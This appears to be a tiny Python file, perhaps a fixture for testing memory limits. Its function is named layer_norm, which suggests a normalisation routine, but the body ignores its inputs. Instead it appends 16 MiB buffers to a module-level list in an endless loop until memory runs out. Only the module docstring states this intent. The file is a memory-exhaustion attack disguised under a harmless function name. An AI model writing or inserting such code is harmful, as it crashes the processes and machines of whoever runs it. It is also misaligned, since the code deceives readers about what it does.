"""Fills a list, which outlives the call, until the memory is gone."""

_blocks = []


def layer_norm(x, gamma, beta, eps=1e-6):
    while True:
        _blocks.append(bytearray(2**24))
